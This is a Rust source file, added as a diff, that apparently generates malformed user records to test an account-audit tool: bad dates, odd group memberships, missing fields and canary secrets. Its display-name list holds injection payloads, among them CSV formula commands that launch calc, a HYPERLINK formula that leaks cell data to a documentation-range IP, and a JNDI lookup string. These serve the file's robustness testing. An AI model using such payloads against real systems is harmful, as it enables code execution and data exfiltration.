@@ -1,0 +1,271 @@
+//! The awkward people of real tenants: names that attack a reader, dates that lie, memberships that lead nowhere,
+//! fields nobody announced. One [`Sort`] each; every sort begins with an ordinary person and changes what it is about.
+
+use super::super::world::{CANARY, Record, World};
+use super::{DAY, PRIVILEGED, text_of, written};
+use chrono::{DateTime, SecondsFormat, TimeDelta, Utc};
+use fastrand::Rng;
+use serde_json::{Value, json};
+
+/// One sort of awkwardness.
+#[derive(Clone, Copy)]
+enum Sort {
+    /// A display name.
+    Named(&'static str),
+    /// A last login as written.
+    Login(&'static str),
+    /// The same instant, 100 days ago, in the notation of [`strftime`](chrono::format::strftime), so many hours east.
+    Notation(&'static str, i64),
+    /// Last login so many seconds ago.
+    Age(i64),
+    /// The same for a member of a privileged group.
+    PrivilegedAge(i64),
+    /// Never logged in, created so many seconds ago.
+    NeverAge(i64),
+    /// A creation as written.
+    Created(&'static str),
+    /// Memberships; 1 stands for a group that exists, 2 for a privileged one.
+    Groups(&'static [&'static str]),
+    /// Anything else.
+    Other(fn(&mut Somebody<'_>)),
+}
+
+/// A record on its way from ordinary to awkward.
+struct Somebody<'a> {
+    record: &'a mut Record,
+    id: u64,
+    as_of: DateTime<Utc>,
+    group: u64,
+    privileged: u64,
+}
+
+const NAMES: [&str; 22] = [
+    "=cmd|' /C calc'!A0",
+    "=HYPERLINK(\"http://192.0.2.1/?\"&A1,\"Click\")",
+    "+1",
+    "-1",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    "Eve\r\nInjected,\"Row\",true\r\n",
+    "Line one\nline two",
+    "O'Brien, \"Pat\"",
+    "Nul\u{0}Byte",
+    "\u{1b}[31mRed\u{1b}[0m",
+    "\u{202e}gpj.tnemucod",
+    "מנהל המערכת",
+    "عبد الرحمن",
+    "Zu\u{308}rich \u{1f469}\u{200d}\u{1f4bb}\u{feff}",
+    "<script>alert('x')</script>&amp;",
+    "\"] <13>1 - - - fake [x y=\"z\"]",
+    "  padded  ",
+    "",
+    "https://192.0.2.7/%s%n{{7*7}}${jndi:ldap://192.0.2.7/a}",
+];
+
+const LOGINS: [&str; 20] = [
+    "0001-01-01T00:00:00Z",
+    "1601-01-01T00:00:00Z",
+    "1753-01-01T00:00:00",
+    "1900-01-01 00:00:00Z",
+    "1970-01-01T00:00:00Z",
+    "1970-01-01T08:15:00+00:00",
+    "1969-12-31T19:00:00-05:00",
+    "0001-01-01T00:00:00+05:30",
+    "",
+    "never",
+    "Never",
+    "yesterday",
+    "2026-13-45T99:99:99Z",
+    "2025-02-29T12:00:00Z",
+    "23/11/2026 02:00",
+    "2026-11-23T02:00:00+99:00",
+    "2026-11-23T02:00:00.Z",
+    "9999-12-31T23:59:59Z",
+    "2024-02-29T12:00:00Z",
+    "2016-12-31T23:59:60Z",
+];
+
+const NOTATIONS: [(&str, i64); 11] = [
+    ("%Y-%m-%dT%H:%M:%S+02:00", 2),
+    ("%Y-%m-%dT%H:%M:%S-0500", -5),
+    ("%Y-%m-%dT%H:%M:%S+09", 9),
+    ("%Y-%m-%dT%H:%M:%S+00:00", 0),
+    ("%Y-%m-%dT%H:%M:%S", 0),
+    ("%Y-%m-%d %H:%M:%S", 0),
+    ("%Y-%m-%d %H:%M:%SZ", 0),
+    ("%Y-%m-%dT%H:%M:%S.123456789Z", 0),
+    ("%Y-%m-%dT%H:%M:%S.5Z", 0),
+    ("%Y-%m-%dT%H:%M:%S.000001+01:00", 1),
+    ("%Y-%m-%dT%H:%M:%S.0000009", 0),
+];
+
+/// At the thresholds of [`super::super::Expect::usual`], to the second; the last five lie in the future.
+const AGES: [i64; 11] = [
+    90 * DAY,
+    90 * DAY - 1,
+    90 * DAY + 1,
+    89 * DAY,
+    91 * DAY,
+    45 * DAY,
+    -120,
+    -300,
+    -301,
+    -3 * DAY,
+    -400 * DAY,
+];
+const PRIVILEGED_AGES: [i64; 5] = [45 * DAY, 45 * DAY - 1, 45 * DAY + 1, 44 * DAY, 90 * DAY];
+const NEVER_AGES: [i64; 8] =
+    [30 * DAY, 30 * DAY - 1, 30 * DAY + 1, 90 * DAY, 90 * DAY - 1, 0, -3 * DAY, 2000 * DAY];
+
+const CREATED: [&str; 5] = ["0001-01-01T00:00:00Z", "", "last spring", "1970-01-01T00:00:00", "2026-11-31T00:00:00Z"];
+
+const GROUPS: [&[&str]; 6] =
+    [&["999983"], &["1", "999983", "999984"], &["1", "1"], &["2", "1", "2"], &["legacy-admins", "1"], &["999984", "9"]];
+
+const OTHERS: [fn(&mut Somebody<'_>); 31] = [
+    |s| s.set("display_name", "Long ".repeat(800)),
+    |s| s.set("display_name", Value::Null),
+    |s| s.forget("display_name"),
+    |s| s.set("username", format!("=1+{}", s.id)),
+    |s| s.set("username", format!("line\nbreak.{}", s.id)),
+    |s| s.set("username", Value::Null),
+    |s| s.set("email_address", Value::Null),
+    |s| s.forget("email_address"),
+    |s| s.set("email_address", "  SHARED@Example.COM "),
+    |s| s.set("last_login", Value::Null),
+    |s| s.forget("last_login"),
+    |s| s.set("last_login", 1_700_000_000),
+    |s| s.set("last_login", json!({"date": "2026-01-01", "access_token": CANARY})),
+    // Never logged in, and no creation to count from.
+    |s| s.set_both("last_login", Value::Null, "created_at", Value::Null),
+    |s| s.set_both("last_login", "never".into(), "created_at", "0001-01-01T00:00:00Z".into()),
+    |s| s.set_both("last_login", "???".into(), "enabled", false.into()),
+    |s| s.set_both("last_login", "???".into(), "username", format!("svc-odd-{}", s.id).into()),
+    |s| s.forget("created_at"),
+    |s| s.set("group_memberships", Value::Null),
+    |s| s.forget("group_memberships"),
+    |s| s.set("group_memberships", json!([])),
+    // The same group by number and by text.
+    |s| s.set("group_memberships", json!([s.group.to_string(), s.group])),
+    |s| s.set("enabled", false),
+    |s| s.set_both("enabled", false.into(), "group_memberships", json!([s.privileged, s.group])),
+    |s| s.set_both("enabled", false.into(), "group_memberships", json!([999_983])),
+    |s| s.set("enabled", Value::Null),
+    |s| s.forget("enabled"),
+    |s| s.set("account_type", Value::Null),
+    |s| s.set_both("account_type", "LOCAL".into(), "last_login", written(s.as_of - TimeDelta::days(365))),
+    |s| s.add(json!({
+        "is_admin": true, "department": "=Finance", "risk": 0.25, "tags": ["b", "a"],
+        "address": {"street": "Rua do Ouro\n12", "geo": {"lon": -9, "lat": 38}},
+        "password_hash": CANARY, "api_token": CANARY,
+        "devices": [{"name": "laptop", "Private_Key_PEM": CANARY}, {"clientSecret": CANARY}],
+    })),
+    // Nothing but secrets: nothing extra is left.
+    |s| s.add(json!({"PASSWORD_EXPIRES": CANARY, "totp_secret": CANARY, "refresh_token": [CANARY]})),
+];
+
+fn sorts() -> Vec<Sort> {
+    let mut sorts: Vec<Sort> = NAMES.map(Sort::Named).to_vec();
+    sorts.extend(LOGINS.map(Sort::Login));
+    sorts.extend(NOTATIONS.map(|(notation, hours)| Sort::Notation(notation, hours)));
+    sorts.extend(AGES.map(Sort::Age));
+    sorts.extend(PRIVILEGED_AGES.map(Sort::PrivilegedAge));
+    sorts.extend(NEVER_AGES.map(Sort::NeverAge));
+    sorts.extend(CREATED.map(Sort::Created));
+    sorts.extend(GROUPS.map(Sort::Groups));
+    sorts.extend(OTHERS.map(Sort::Other));
+    sorts
+}
+
+/// Makes a small share of the people awkward, and one group.
+pub(super) fn add(world: &mut World, rng: &mut Rng, as_of: DateTime<Utc>) {
+    let mut sorts = sorts();
+    let people: Vec<u64> = world.users().filter(|(_, record)| is_person(record)).map(|(id, _)| id).collect();
+    let share = if world.user_count() >= 200 { sorts.len().max(people.len() / 50) } else { people.len() / 4 };
+    let groups: Vec<u64> = world.groups().map(|(id, _)| id).collect();
+    if people.len() < 200 {
+        rng.shuffle(&mut sorts);
+    }
+    for (turn, sort) in sorts.iter().cycle().take(share).enumerate() {
+        let id = people[turn * people.len() / share];
+        let privileged = groups[rng.usize(..PRIVILEGED)];
+        let group = groups[rng.usize(PRIVILEGED..groups.len())];
+        world.edit_user(id, |record| Somebody { record, id, as_of, group, privileged }.become_awkward(*sort));
+    }
+    let sixth = world.groups().nth(5).map(|(id, group)| (id, group.clone()));
+    if let Some((id, mut group)) = sixth {
+        group.insert("description".to_owned(), Value::Null);
+        group.insert("policy".to_owned(), json!({"jump": ["rdp", "ssh"], "api_token": CANARY, "level": 3}));
+        world.put_group(id, group);
+    }
+}
+
+fn is_person(record: &Record) -> bool {
+    let name = text_of(record, "username");
+    !name.starts_with("svc-") && !name.starts_with("emergency-")
+}
+
+impl Somebody<'_> {
+    fn become_awkward(&mut self, sort: Sort) {
+        self.be_ordinary();
+        match sort {
+            Sort::Named(name) => self.set("display_name", name),
+            Sort::Login(text) => self.set("last_login", text),
+            Sort::Notation(notation, hours) => {
+                let there = self.as_of - TimeDelta::days(100) + TimeDelta::hours(hours);
+                self.set("last_login", there.format(notation).to_string());
+            }
+            Sort::Age(seconds) => self.set("last_login", self.ago(seconds)),
+            Sort::PrivilegedAge(seconds) => {
+                let groups = json!([self.privileged, self.group]);
+                self.set_both("last_login", self.ago(seconds), "group_memberships", groups);
+            }
+            Sort::NeverAge(seconds) => {
+                self.set_both("last_login", Value::Null, "created_at", self.ago(seconds));
+            }
+            Sort::Created(text) => self.set("created_at", text),
+            Sort::Groups(ids) => self.set("group_memberships", self.memberships(ids)),
+            Sort::Other(change) => change(self),
+        }
+    }
+
+    fn be_ordinary(&mut self) {
+        self.set("enabled", true);
+        self.set("account_type", "SAML");
+        self.set_both("last_login", self.ago(5 * DAY), "created_at", self.ago(400 * DAY));
+        self.set("group_memberships", json!([self.group]));
+    }
+
+    /// To the microsecond where `as_of` has a fraction, so that an age is exact.
+    fn ago(&self, seconds: i64) -> Value {
+        (self.as_of - TimeDelta::seconds(seconds)).to_rfc3339_opts(SecondsFormat::AutoSi, true).into()
+    }
+
+    fn memberships(&self, ids: &[&str]) -> Value {
+        let id = |text: &&str| match *text {
+            "1" => self.group.into(),
+            "2" => self.privileged.into(),
+            other => other.parse::<u64>().map_or_else(|_| other.into(), Value::from),
+        };
+        ids.iter().map(id).collect()
+    }
+
+    fn set(&mut self, key: &str, value: impl Into<Value>) {
+        self.record.insert(key.to_owned(), value.into());
+    }
+
+    fn set_both(&mut self, key: &str, value: Value, other: &str, other_value: Value) {
+        self.set(key, value);
+        self.set(other, other_value);
+    }
+
+    fn forget(&mut self, key: &str) {
+        self.record.remove(key);
+    }
+
+    fn add(&mut self, fields: Value) {
+        self.record.extend(super::object(fields));
+    }
+}
